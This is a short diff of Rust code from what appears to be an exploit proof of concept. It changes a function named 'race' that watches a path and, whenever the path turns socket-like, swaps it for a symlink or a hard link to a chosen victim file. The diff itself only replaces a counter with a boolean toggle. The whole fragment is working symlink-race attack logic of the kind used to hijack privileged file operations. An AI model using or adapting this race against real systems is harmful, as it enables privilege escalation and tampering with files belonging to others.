@@ -23,16 +23,16 @@ fn helper() -> String {
 fn race(path: &Path, victim: &Path, stop: &AtomicBool) {
     let dir = path.parent().unwrap();
     let (link, hard) = (dir.join("link.tmp"), dir.join("hard.tmp"));
-    let mut n = 0u64;
+    let mut symlink = false;
     while !stop.load(Ordering::Relaxed) {
         let is_socket = std::fs::symlink_metadata(path)
             .map(|m| m.file_type().is_socket_like())
             .unwrap_or(false);
         if is_socket {
-            n += 1;
+            symlink = !symlink;
             let _ = std::fs::remove_file(&link);
             let _ = std::fs::remove_file(&hard);
-            if n % 2 == 0 {
+            if symlink {
                 let _ = std::os::unix::fs::symlink(victim, &link);
                 let _ = std::fs::rename(&link, path);
             } else if std::fs::hard_link(victim, &hard).is_ok() {
